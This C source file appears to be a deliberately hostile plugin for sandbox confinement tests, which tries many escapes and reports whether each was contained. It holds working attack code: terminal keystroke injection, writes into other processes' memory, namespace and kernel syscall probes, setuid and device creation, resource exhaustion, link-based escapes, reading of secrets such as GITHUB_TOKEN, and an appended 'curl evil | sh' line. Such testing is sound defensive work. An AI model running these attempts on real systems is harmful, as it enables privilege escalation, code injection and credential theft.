/*
 * A provider that tries to get out of its sandbox, for the confinement tests.
 * Its scene has one "Go" button; pressing it performs the attack the input
 * text names ("<attack> <argument>") and finishes with what happened:
 * "CONTAINED <details>" when every attempt failed, "ESCAPED <details>" at the
 * first one that worked. The tests also check, from outside, that nothing
 * happened (files unchanged, listeners not reached).
 *
 *   tiocsti             types "echo INJECTED" into any terminal it can reach
 *   host-mem <pid>      writes into the memory of <pid>, its parent and every
 *                       translation-host it can see (/proc/<pid>/mem, ptrace,
 *                       process_vm_writev)
 *   setns <port>        joins any other network namespace it can see, or makes
 *                       a user namespace, then connects to 127.0.0.1:<port>
 *   kernel              bpf, perf_event_open, userfaultfd, keyctl, mount
 *   read <path>         reads a file
 *   write <path>        appends to an existing file
 *   create <path>       creates a file
 *   connect <path>      connects to a Unix socket ("@name": an abstract one)
 *   bus                 connects to $DBUS_SESSION_BUS_ADDRESS
 *   environment         reports which secrets of the user's environment it sees
 *   sysctl <path> <v>   writes <v> to a /proc/sys file (root could make
 *                       core_pattern run a program as root everywhere)
 *   setuid <path>       creates <path> (in its container) with the setuid and
 *                       setgid bits, by open's mode, chmod and fchmod
 *   memfd <MiB>         holds <MiB> MiB in a memory file, which RLIMIT_AS
 *                       does not count
 *   tmp-files <MiB>     holds <MiB> MiB in files in $TMPDIR (its container's
 *                       tmp), /tmp and /dev/shm, a third in each
 *   disk <MiB>          writes <MiB> MiB in one file in its HOME, then as
 *                       many 1 MiB files (reported, not judged: the disk
 *                       limit bounds each file, and the container between runs)
 *   fill <MiB>          writes files of 1 MiB in its HOME until a write
 *                       fails (at most <MiB> of them) and reports how many
 *                       and the error, and what its HOME's mount says
 *                       (nosuid, nodev, its size)
 *   keep <KiB>          writes <KiB> KiB of a pattern to "kept" in its HOME
 *                       (no fsync, not closed), then kills itself with
 *                       SIGKILL: what it wrote must be in the file outside
 *   links <path>        tries to reach <path> (outside its view) and the
 *                       container's parent folder through its HOME: a
 *                       symbolic link written through, rename and hard link
 *                       out, a hard link in, a link to / written through
 *   fork <count>        starts <count> processes that wait (root is exempt
 *                       from RLIMIT_NPROC)
 *   privileged <folder> leaves, in <folder> (in its container), a setuid or
 *                       setgid program or a device by every way but chmod:
 *                       cp -p and tar -p of a setuid program, a hard link to
 *                       one, mknod of a device and of a setuid file,
 *                       install -m 4755, and a file capability
 *
 * At init it also writes the settings the host handed it to "settings-seen"
 * in its HOME, so a test sees from outside whose settings it got.
 */
#define _GNU_SOURCE
#include "translation_provider.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/perf_event.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <unistd.h>

static const tp_context *current;
static char outcome[4096];
static int escaped;

/* Appends one attempt's result to the outcome; `worked` marks an escape. */
static void note(int worked, const char *format, ...) {
  if (escaped) return; /* the first escape is the story */
  char line[512];
  va_list arguments;
  va_start(arguments, format);
  vsnprintf(line, sizeof line, format, arguments);
  va_end(arguments);
  if (worked) {
    escaped = 1;
    snprintf(outcome, sizeof outcome, "ESCAPED %s", line);
  } else if (strlen(outcome) + strlen(line) + 2 < sizeof outcome) {
    strcat(outcome, " ");
    strcat(outcome, line);
  }
}

static const char *error_name(void) { return strerrorname_np(errno) ? strerrorname_np(errno) : "?"; }

static void inject(int fd, const char *where) {
  const char *command = "echo INJECTED\n";
  for (const char *c = command; *c; c++) {
    if (ioctl(fd, TIOCSTI, c) != 0) {
      note(0, "%s:%s", where, error_name());
      return;
    }
  }
  note(1, "typed into %s", where);
}

static void attack_terminal(void) {
  int tty = open("/dev/tty", O_RDWR);
  if (tty >= 0) {
    inject(tty, "/dev/tty");
    close(tty);
  } else {
    note(0, "/dev/tty:%s", error_name());
  }
  for (int fd = 0; fd < 64; fd++) {
    if (fcntl(fd, F_GETFD) == -1 || !isatty(fd)) continue;
    char where[32];
    snprintf(where, sizeof where, "fd%d", fd);
    inject(fd, where);
  }
  DIR *pts = opendir("/dev/pts");
  if (!pts) note(0, "/dev/pts:%s", error_name());
  for (struct dirent *entry; pts && (entry = readdir(pts));) {
    if (entry->d_name[0] < '0' || entry->d_name[0] > '9') continue;
    char path[300];
    snprintf(path, sizeof path, "/dev/pts/%s", entry->d_name);
    int fd = open(path, O_RDWR | O_NOCTTY);
    if (fd < 0) {
      note(0, "%s:%s", path, error_name());
      continue;
    }
    inject(fd, path);
    if (!escaped && write(fd, "\033]0;OWNED\007", 11) == 11) note(1, "wrote an escape sequence to %s", path);
    close(fd);
  }
  if (pts) closedir(pts);
  /* Even on a descriptor that is no terminal, the filter answers first. */
  char c = 'x';
  if (ioctl(-1, TIOCSTI, &c) != 0) note(0, "filter:%s", error_name());
}

static void write_memory(pid_t pid) {
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/mem", pid);
  int fd = open(path, O_RDWR);
  if (fd >= 0) {
    note(1, "opened %s for writing", path);
    close(fd);
    return;
  }
  note(0, "%s:%s", path, error_name());
  if (ptrace(PTRACE_ATTACH, pid, 0, 0) == 0) {
    note(1, "ptrace attached to %d", pid);
    return;
  }
  note(0, "ptrace(%d):%s", pid, error_name());
  char byte = 0;
  struct iovec local = {&byte, 1}, remote = {(void *)0x400000, 1};
  if (process_vm_writev(pid, &local, 1, &remote, 1, 0) >= 0) {
    note(1, "process_vm_writev into %d", pid);
    return;
  }
  note(0, "process_vm_writev(%d):%s", pid, error_name());
}

static void attack_host_memory(const char *argument) {
  if (argument) write_memory((pid_t)atoi(argument));
  write_memory(getppid());
  int seen = 0;
  DIR *proc = opendir("/proc");
  for (struct dirent *entry; proc && (entry = readdir(proc));) {
    if (entry->d_name[0] < '0' || entry->d_name[0] > '9') continue;
    char path[300], command[256] = {0};
    snprintf(path, sizeof path, "/proc/%s/cmdline", entry->d_name);
    int fd = open(path, O_RDONLY);
    if (fd < 0) continue;
    ssize_t length = read(fd, command, sizeof command - 1);
    close(fd);
    if (length <= 0 || !strstr(command, "translation-host") || strstr(command, "runner")) continue;
    seen++;
    write_memory((pid_t)atoi(entry->d_name));
  }
  if (proc) closedir(proc);
  note(0, "hosts-in-proc:%d", seen);
}

static void connect_tcp(int port) {
  int fd = socket(AF_INET, SOCK_STREAM, 0);
  if (fd < 0) {
    note(0, "socket:%s", error_name());
    return;
  }
  struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
  address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  if (connect(fd, (struct sockaddr *)&address, sizeof address) == 0) {
    note(1, "connected to 127.0.0.1:%d", port);
  } else {
    note(0, "connect:%s", error_name());
  }
  close(fd);
}

static void attack_namespaces(const char *argument) {
  DIR *proc = opendir("/proc");
  for (struct dirent *entry; proc && (entry = readdir(proc));) {
    if (entry->d_name[0] < '0' || entry->d_name[0] > '9') continue;
    char path[300];
    snprintf(path, sizeof path, "/proc/%s/ns/net", entry->d_name);
    int fd = open(path, O_RDONLY);
    if (fd < 0) continue;
    if (setns(fd, CLONE_NEWNET) == 0) {
      note(0, "setns(%s):joined", path); /* joining its own namespace proves nothing; the connect decides */
    } else {
      note(0, "setns(%s):%s", path, error_name());
    }
    close(fd);
  }
  if (proc) closedir(proc);
  if (unshare(CLONE_NEWUSER | CLONE_NEWNET) == 0) {
    note(1, "made a user namespace");
  } else {
    note(0, "unshare:%s", error_name());
  }
  if (argument) connect_tcp(atoi(argument));
}

static void attack_kernel(void) {
  union bpf_attr map = {.map_type = BPF_MAP_TYPE_ARRAY, .key_size = 4, .value_size = 4, .max_entries = 1};
  long fd = syscall(SYS_bpf, BPF_MAP_CREATE, &map, sizeof map);
  if (fd >= 0) note(1, "bpf made a map");
  else note(0, "bpf:%s", error_name());
  struct perf_event_attr event = {.type = PERF_TYPE_SOFTWARE, .size = sizeof event, .config = PERF_COUNT_SW_CPU_CLOCK};
  fd = syscall(SYS_perf_event_open, &event, 0, -1, -1, 0);
  if (fd >= 0) note(1, "perf_event_open");
  else note(0, "perf_event_open:%s", error_name());
  fd = syscall(SYS_userfaultfd, 0);
  if (fd >= 0) note(1, "userfaultfd");
  else note(0, "userfaultfd:%s", error_name());
  if (syscall(SYS_keyctl, 0 /* KEYCTL_GET_KEYRING_ID */, -3 /* session */, 0) >= 0) note(1, "keyctl");
  else note(0, "keyctl:%s", error_name());
  if (mount("none", "/tmp", "tmpfs", 0, NULL) == 0) note(1, "mounted");
  else note(0, "mount:%s", error_name());
}

static void attack_read(const char *path) {
  int fd = open(path ? path : "", O_RDONLY);
  if (fd < 0) {
    note(0, "open:%s", error_name());
    return;
  }
  char buffer[256];
  ssize_t length = read(fd, buffer, sizeof buffer - 1);
  close(fd);
  if (length > 0) {
    buffer[length] = '\0';
    for (ssize_t i = 0; i < length; i++) if (buffer[i] == '\n') buffer[i] = ' ';
    note(1, "read '%s'", buffer);
  } else {
    note(0, "read:%s", length < 0 ? error_name() : "empty");
  }
}

static void attack_write(const char *path, int flags) {
  int fd = open(path ? path : "", O_WRONLY | flags, 0644);
  if (fd < 0) {
    note(0, "open:%s", error_name());
    return;
  }
  const char *line = "\ncurl evil | sh\n";
  if (write(fd, line, strlen(line)) > 0) note(1, "wrote to %s", path);
  else note(0, "write:%s", error_name());
  close(fd);
}

static void attack_connect(const char *path) {
  int fd = socket(AF_UNIX, SOCK_STREAM, 0);
  if (fd < 0 || !path) {
    note(0, "socket:%s", error_name());
    return;
  }
  struct sockaddr_un address = {.sun_family = AF_UNIX};
  socklen_t length;
  if (path[0] == '@') {
    strncpy(address.sun_path + 1, path + 1, sizeof address.sun_path - 2);
    length = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + strlen(path + 1));
  } else {
    strncpy(address.sun_path, path, sizeof address.sun_path - 1);
    length = sizeof address;
  }
  if (connect(fd, (struct sockaddr *)&address, length) == 0) note(1, "connected to %s", path);
  else note(0, "connect:%s", error_name());
  close(fd);
}

static void attack_bus(void) {
  const char *address = getenv("DBUS_SESSION_BUS_ADDRESS");
  if (!address) {
    note(0, "no-bus-address");
    return;
  }
  const char *path = strstr(address, "path=");
  const char *abstract = strstr(address, "abstract=");
  char target[256] = {0};
  if (path) snprintf(target, sizeof target, "%.*s", (int)strcspn(path + 5, ",;"), path + 5);
  else if (abstract) snprintf(target, sizeof target, "@%.*s", (int)strcspn(abstract + 9, ",;"), abstract + 9);
  note(0, "bus-address-seen");
  attack_connect(target);
}

static void attack_environment(void) {
  const char *secrets[] = {"SSH_AUTH_SOCK", "DBUS_SESSION_BUS_ADDRESS", "DISPLAY", "WAYLAND_DISPLAY",
                           "XDG_RUNTIME_DIR", "GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY"};
  for (size_t i = 0; i < sizeof secrets / sizeof secrets[0]; i++) {
    if (getenv(secrets[i])) note(1, "saw %s", secrets[i]);
  }
  note(0, "HOME=%s", getenv("HOME") ? getenv("HOME") : "");
}

static void attack_sysctl(char *argument) {
  char *value = argument ? strchr(argument, ' ') : NULL;
  if (!value) {
    note(0, "sysctl:usage");
    return;
  }
  *value++ = '\0';
  int fd = open(argument, O_WRONLY);
  if (fd < 0) {
    note(0, "open:%s", error_name());
    return;
  }
  if (write(fd, value, strlen(value)) > 0) note(1, "wrote '%s' to %s", value, argument);
  else note(0, "write:%s", error_name());
  close(fd);
}

static void attack_setuid(const char *path) {
  int fd = open(path ? path : "", O_WRONLY | O_CREAT | O_EXCL, 06755);
  if (fd < 0) {
    note(0, "open:%s", error_name());
    fd = open(path ? path : "", O_WRONLY | O_CREAT | O_EXCL, 0755);
    if (fd < 0) {
      note(0, "plain-open:%s", error_name());
      return;
    }
  }
  const char script[] = "#!/bin/sh\nid\n";
  if (write(fd, script, sizeof script - 1) < 0) note(0, "write:%s", error_name());
  if (fchmod(fd, 06755) != 0) note(0, "fchmod:%s", error_name());
  close(fd);
  if (chmod(path, 04755) != 0) note(0, "chmod:%s", error_name());
  struct stat status;
  if (stat(path, &status) == 0 && (status.st_mode & (S_ISUID | S_ISGID))) {
    note(1, "made %s setuid (mode %o, owner %d)", path, status.st_mode & 07777, (int)status.st_uid);
  }
}

static void attack_memfd(const char *argument) {
  long mebibytes = argument ? atol(argument) : 0;
  int fd = (int)syscall(SYS_memfd_create, "hoard", 0);
  if (fd < 0) {
    note(0, "memfd_create:%s", error_name());
    return;
  }
  static char chunk[1 << 20];
  memset(chunk, 'x', sizeof chunk);
  long held = 0;
  while (held < mebibytes && write(fd, chunk, sizeof chunk) == (ssize_t)sizeof chunk) held++;
  if (held >= mebibytes) note(1, "held %ld MiB in a memory file", held);
  else note(0, "memfd-write:%s after %ld MiB", error_name(), held);
  close(fd);
}

static void attack_tmp_files(const char *argument) {
  long wanted = argument ? atol(argument) : 0;
  const char *tmpdir = getenv("TMPDIR") ? getenv("TMPDIR") : "";
  char paths[3][600];
  snprintf(paths[0], sizeof paths[0], "%s/hoard", tmpdir);
  snprintf(paths[1], sizeof paths[1], "/tmp/hoard");
  snprintf(paths[2], sizeof paths[2], "/dev/shm/hoard");
  static char chunk[1 << 20];
  memset(chunk, 'x', sizeof chunk);
  long held = 0;
  for (int i = 0; i < 3; i++) {
    int fd = open(paths[i], O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
    if (fd < 0) {
      note(0, "open %s:%s", paths[i], error_name());
      continue;
    }
    long part = (wanted + 2) / 3;
    long here = 0;
    while (here < part && write(fd, chunk, sizeof chunk) == (ssize_t)sizeof chunk) here++;
    if (here < part) note(0, "write %s:%s after %ld MiB", paths[i], error_name(), here);
    held += here;
    close(fd); /* kept: a file holds its pages after it is closed */
  }
  if (held >= wanted) note(1, "held %ld MiB in tmp files", held);
  else note(0, "held %ld MiB in all", held);
}

static void attack_disk(const char *argument) {
  long wanted = argument ? atol(argument) : 0;
  const char *home = getenv("HOME") ? getenv("HOME") : "";
  static char chunk[1 << 20];
  memset(chunk, 'x', sizeof chunk);
  char path[600];
  snprintf(path, sizeof path, "%s/big", home);
  int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
  long big = 0;
  while (fd >= 0 && big < wanted && write(fd, chunk, sizeof chunk) == (ssize_t)sizeof chunk) big++;
  note(0, "one file: %ld MiB%s%s", big, big < wanted ? ", then " : "", big < wanted ? error_name() : "");
  if (fd >= 0) close(fd);
  long parts = 0;
  while (parts < wanted) {
    snprintf(path, sizeof path, "%s/part-%ld", home, parts);
    fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
    if (fd < 0) break;
    ssize_t written = write(fd, chunk, sizeof chunk);
    close(fd);
    if (written != (ssize_t)sizeof chunk) break;
    parts++;
  }
  note(0, "files: %ld MiB", parts);
}

/* Writes all of `size` bytes, as a file system that is full answers: short writes, then an error. */
static int write_whole(int fd, const char *bytes, size_t size) {
  while (size > 0) {
    ssize_t written = write(fd, bytes, size);
    if (written < 0) return -1;
    bytes += written;
    size -= (size_t)written;
  }
  return 0;
}

static void attack_fill(const char *argument) {
  long wanted = argument ? atol(argument) : 0;
  const char *home = getenv("HOME") ? getenv("HOME") : "";
  static char chunk[1 << 20];
  memset(chunk, 'f', sizeof chunk);
  struct statvfs view;
  if (statvfs(home, &view) == 0) {
    note(0, "view:%s%s,%llu MiB", view.f_flag & ST_NOSUID ? "nosuid" : "suid", view.f_flag & ST_NODEV ? ",nodev" : ",dev",
         (unsigned long long)view.f_blocks * view.f_frsize >> 20);
  }
  long files = 0;
  const char *failed = "none";
  char path[600];
  while (files < wanted) {
    snprintf(path, sizeof path, "%s/fill-%ld", home, files);
    int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
    if (fd < 0) {
      failed = error_name();
      break;
    }
    int result = write_whole(fd, chunk, sizeof chunk);
    if (result != 0) failed = error_name();
    close(fd);
    if (result != 0) break;
    files++;
  }
  if (files >= wanted) note(1, "wrote %ld files of 1 MiB", files);
  else note(0, "fill: %ld MiB, then %s", files, failed);
}

static void attack_keep(const char *argument) {
  long kibibytes = argument ? atol(argument) : 0;
  const char *home = getenv("HOME") ? getenv("HOME") : "";
  char path[600];
  snprintf(path, sizeof path, "%s/kept", home);
  int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
  char block[1024];
  for (long i = 0; fd >= 0 && i < kibibytes; i++) {
    for (size_t j = 0; j < sizeof block; j++) block[j] = (char)('a' + (i + (long)j) % 26);
    if (write_whole(fd, block, sizeof block) != 0) break;
  }
  kill(getpid(), SIGKILL);
}

/* Each way must fail; one that works is an escape. */
static void try_out(const char *way, int result) {
  if (result == 0) note(1, "%s worked", way);
  else note(0, "%s:%s", way, error_name());
}

static void attack_links(const char *outside) {
  if (!outside) return;
  const char *home = getenv("HOME") ? getenv("HOME") : "";
  char inside[600];
  char link_path[600];
  char target[1200];
  snprintf(inside, sizeof inside, "%s/mine", home);
  int fd = open(inside, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
  if (fd >= 0) {
    if (write_whole(fd, "mine\n", 5) != 0) note(0, "write-mine:%s", error_name());
    close(fd);
  }
  snprintf(link_path, sizeof link_path, "%s/out", home);
  if (symlink(outside, link_path) != 0) note(0, "symlink:%s", error_name()); /* allowed; using it is the test */
  fd = open(link_path, O_WRONLY | O_APPEND | O_CLOEXEC);
  try_out("write-through-symlink", fd >= 0 ? write_whole(fd, "ESCAPED\n", 8) : -1);
  if (fd >= 0) close(fd);
  snprintf(target, sizeof target, "%s.moved", outside);
  try_out("rename-out", rename(inside, target));
  snprintf(target, sizeof target, "%s.linked", outside);
  try_out("link-out", link(inside, target));
  snprintf(target, sizeof target, "%s/../escaped", home);
  try_out("rename-up", rename(inside, target));
  try_out("link-up", link(inside, target));
  snprintf(target, sizeof target, "%s/hard-in", home);
  try_out("link-in", link(outside, target));
  try_out("link-in-bundle", link("/proc/self/exe", target));
  snprintf(link_path, sizeof link_path, "%s/root", home);
  if (symlink("/", link_path) != 0) note(0, "symlink-root:%s", error_name());
  snprintf(target, sizeof target, "%s/root%s.made", home, outside);
  /* The link resolves in its own view, where the test's folders under /tmp
   * are its scratch space: a file made there is its own, judged from outside. */
  fd = open(target, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0600);
  note(0, "create-through-root-link:%s", fd >= 0 ? "in-its-view" : error_name());
  if (fd >= 0) close(fd);
}

static void attack_fork(const char *argument) {
  long wanted = argument ? atol(argument) : 0;
  long made = 0;
  while (made < wanted) {
    pid_t child = fork();
    if (child < 0) break;
    if (child == 0) {
      for (;;) pause();
    }
    made++;
  }
  if (made >= wanted) note(1, "started %ld processes", made);
  else note(0, "fork:%s after %ld", error_name(), made);
}

/* Runs `command` with /bin/sh, quietly; returns its exit status. */
static int shell(const char *command) {
  pid_t child = fork();
  if (child < 0) return -1;
  if (child == 0) {
    int null = open("/dev/null", O_WRONLY);
    if (null >= 0) {
      dup2(null, 1);
      dup2(null, 2);
    }
    execl("/bin/sh", "sh", "-c", command, (char *)NULL);
    _exit(127);
  }
  int status = 0;
  while (waitpid(child, &status, 0) < 0 && errno == EINTR) {
  }
  return WIFEXITED(status) ? WEXITSTATUS(status) : 128;
}

/* Whether `path` is now setuid, setgid, a device or carries a capability. */
static void judge(const char *way, const char *path) {
  struct stat status;
  if (lstat(path, &status) != 0) {
    note(0, "%s:none", way);
    return;
  }
  if (S_ISCHR(status.st_mode) || S_ISBLK(status.st_mode)) note(1, "%s made a device %s", way, path);
  else if (status.st_mode & (S_ISUID | S_ISGID)) note(1, "%s made %s setuid (mode %o)", way, path, status.st_mode & 07777);
  else if (lgetxattr(path, "security.capability", NULL, 0) >= 0) note(1, "%s gave %s a capability", way, path);
  else note(0, "%s:plain", way);
}

static void attack_privileged(const char *folder) {
  if (!folder || mkdir(folder, 0700) != 0) {
    note(0, "mkdir:%s", error_name());
    return;
  }
  const char *setuid_program = access("/usr/bin/passwd", F_OK) == 0 ? "/usr/bin/passwd" : "/usr/bin/su";
  char path[700];
  char command[2200];
  snprintf(path, sizeof path, "%s/copy", folder);
  snprintf(command, sizeof command, "cp -p %s '%s'", setuid_program, path);
  note(0, "cp=%d", shell(command));
  judge("cp", path);
  snprintf(path, sizeof path, "%s/untarred", folder);
  snprintf(command, sizeof command,
           "mkdir '%s' && tar -cf '%s.tar' -C %s %s && tar -xpf '%s.tar' -C '%s' --same-owner", path, path,
           "/usr/bin", strrchr(setuid_program, '/') + 1, path, path);
  note(0, "tar=%d", shell(command));
  snprintf(path, sizeof path, "%s/untarred/%s", folder, strrchr(setuid_program, '/') + 1);
  judge("tar", path);
  snprintf(path, sizeof path, "%s/installed", folder);
  snprintf(command, sizeof command, "install -m 4755 %s '%s'", setuid_program, path);
  note(0, "install=%d", shell(command));
  judge("install", path);
  snprintf(path, sizeof path, "%s/linked", folder);
  if (link(setuid_program, path) != 0) note(0, "link:%s", error_name());
  judge("link", path);
  snprintf(path, sizeof path, "%s/null", folder);
  if (mknod(path, S_IFCHR | 0666, makedev(1, 3)) != 0) note(0, "mknod-char:%s", error_name());
  judge("mknod-char", path);
  snprintf(path, sizeof path, "%s/disk", folder);
  if (mknod(path, S_IFBLK | 0666, makedev(7, 0)) != 0) note(0, "mknod-block:%s", error_name());
  judge("mknod-block", path);
  snprintf(path, sizeof path, "%s/made", folder);
  if (mknod(path, S_IFREG | 06755, 0) != 0) note(0, "mknod-setuid:%s", error_name());
  judge("mknod-setuid", path);
  snprintf(path, sizeof path, "%s/capable", folder);
  int fd = open(path, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0755);
  if (fd >= 0) close(fd);
  /* VFS_CAP_REVISION_2 with CAP_SETUID (7) permitted and effective. */
  const unsigned int capability[5] = {0x02000001, 1u << 7, 0, 0, 0};
  if (setxattr(path, "security.capability", capability, sizeof capability, 0) != 0) note(0, "setxattr:%s", error_name());
  judge("setxattr", path);
}

static void attack(const tp_string *text) {
  char input[1024];
  size_t length = text->length < sizeof input - 1 ? text->length : sizeof input - 1;
  memcpy(input, text->data, length);
  input[length] = '\0';
  char *argument = strchr(input, ' ');
  if (argument) *argument++ = '\0';
  outcome[0] = '\0';
  escaped = 0;
  if (strcmp(input, "tiocsti") == 0) attack_terminal();
  else if (strcmp(input, "host-mem") == 0) attack_host_memory(argument);
  else if (strcmp(input, "setns") == 0) attack_namespaces(argument);
  else if (strcmp(input, "kernel") == 0) attack_kernel();
  else if (strcmp(input, "read") == 0) attack_read(argument);
  else if (strcmp(input, "write") == 0) attack_write(argument, O_APPEND);
  else if (strcmp(input, "create") == 0) attack_write(argument, O_CREAT | O_EXCL);
  else if (strcmp(input, "connect") == 0) attack_connect(argument);
  else if (strcmp(input, "bus") == 0) attack_bus();
  else if (strcmp(input, "environment") == 0) attack_environment();
  else if (strcmp(input, "sysctl") == 0) attack_sysctl(argument);
  else if (strcmp(input, "setuid") == 0) attack_setuid(argument);
  else if (strcmp(input, "memfd") == 0) attack_memfd(argument);
  else if (strcmp(input, "tmp-files") == 0) attack_tmp_files(argument);
  else if (strcmp(input, "fork") == 0) attack_fork(argument);
  else if (strcmp(input, "disk") == 0) attack_disk(argument);
  else if (strcmp(input, "fill") == 0) attack_fill(argument);
  else if (strcmp(input, "keep") == 0) attack_keep(argument);
  else if (strcmp(input, "links") == 0) attack_links(argument);
  else if (strcmp(input, "privileged") == 0) attack_privileged(argument);
  else note(1, "unknown attack '%s'", input);
  if (!escaped) {
    static const char prefix[] = "CONTAINED";
    size_t kept = strnlen(outcome, sizeof outcome - sizeof prefix);
    memmove(outcome + sizeof prefix - 1, outcome, kept);
    memcpy(outcome, prefix, sizeof prefix - 1);
    outcome[sizeof prefix - 1 + kept] = '\0';
  }
}

static tp_status render(const tp_scene *scene, tp_string *out) {
  (void)scene;
  static const char json[] =
      "{\"version\":1,\"root\":{\"type\":\"button\",\"id\":\"go\",\"label\":{\"type\":\"text\",\"text\":\"Go\"}}}";
  *out = (tp_string){json, sizeof json - 1};
  return TP_STATUS_OK;
}

static tp_status perform_action(const tp_scene *scene, const char *id) {
  (void)scene;
  if (strcmp(id, "go") != 0) return TP_STATUS_NOT_FOUND;
  attack(&current->input_text);
  tp_string translation = {outcome, strlen(outcome)};
  current->finish(current, &translation);
  return TP_STATUS_OK;
}

static tp_status set_text(const tp_scene *scene, const char *id, tp_string value) {
  (void)scene;
  (void)id;
  (void)value;
  return TP_STATUS_NOT_FOUND;
}

static void destroy(const tp_scene *scene) {
  (void)scene;
  current = NULL;
}

static const tp_scene the_scene = {sizeof(tp_scene), NULL, render, perform_action, set_text, destroy};

static const tp_scene *create_scene(const tp_context *context) {
  current = context;
  return &the_scene;
}

static const tp_selected_text_scene_factory factory = {sizeof factory, create_scene};

static bool init(const tp_host *host) {
  const char *home = getenv("HOME");
  if (home && host->struct_size > offsetof(tp_host, settings_json) && host->settings_json) {
    char path[4096];
    snprintf(path, sizeof path, "%s/settings-seen", home);
    int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0600);
    if (fd >= 0) {
      ssize_t ignored = write(fd, host->settings_json, strlen(host->settings_json));
      (void)ignored;
      close(fd);
    }
  }
  return true;
}

static void deinit(void) {}

static const void *get_capability(const char *id) {
  return strcmp(id, TP_CAPABILITY_SELECTED_TEXT_SCENE) == 0 ? &factory : NULL;
}

static const tp_entry entry = {sizeof entry, TP_ABI_VERSION_MAJOR, 0, init, deinit, get_capability};

TP_EXPORT const tp_entry *translation_provider_entry(void) { return &entry; }
